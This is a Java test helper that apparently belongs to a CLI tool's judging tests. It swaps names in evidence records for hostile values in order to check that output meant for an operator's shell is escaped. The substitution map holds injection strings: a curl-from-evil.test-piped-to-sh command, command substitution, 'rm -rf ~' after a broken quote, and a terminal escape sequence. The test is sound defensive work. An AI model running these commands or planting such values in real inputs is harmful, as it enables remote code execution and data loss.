package io.tombolo.cli.judging;

import io.tombolo.cli.evidence.Evidence;
import io.tombolo.model.fault.Fault;
import java.lang.reflect.RecordComponent;
import java.util.Arrays;
import java.util.Collection;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Collectors;
import org.jspecify.annotations.Nullable;

/** The same evidence, in which every name that somebody else gave is meant for the operator's shell. */
final class Hostile {
    private static final Map<String, String> NAMES = Map.of(
            "east", "e; curl http://evil.test/x|sh #",
            "west", "w$(touch /tmp/x)`id`",
            "checkout", "c' && rm -rf ~ '",
            "shop", "s\n! forged\u001b[2J \"$HOME\" *");

    private Hostile() {}

    static Evidence evidence(Evidence harmless) {
        return (Evidence) changed(harmless);
    }

    static String text(String harmless) {
        String text = harmless;
        for (String name : List.of("checkout", "shop", "east", "west")) {
            text = text.replace(name, NAMES.get(name));
        }
        return text;
    }

    private static @Nullable Object changed(@Nullable Object value) {
        return switch (value) {
            case null -> null;
            case String text -> text(text);
            case Fault fault -> fault;
            case Set<?> set -> set.stream().map(Hostile::changed).collect(Collectors.toSet());
            case Collection<?> list -> list.stream().map(Hostile::changed).toList();
            case Optional<?> maybe -> maybe.map(Hostile::changed);
            case Record data -> changed(data);
            default -> value;
        };
    }

    private static Object changed(Record data) {
        try {
            RecordComponent[] parts = data.getClass().getRecordComponents();
            @Nullable Object[] values = new @Nullable Object[parts.length];
            for (int i = 0; i < parts.length; i++) {
                values[i] = changed(parts[i].getAccessor().invoke(data));
            }
            Class<?>[] types =
                    Arrays.stream(parts).map(RecordComponent::getType).toArray(Class<?>[]::new);
            return data.getClass().getDeclaredConstructor(types).newInstance(values);
        } catch (ReflectiveOperationException impossible) {
            throw new AssertionError(impossible);
        }
    }
}
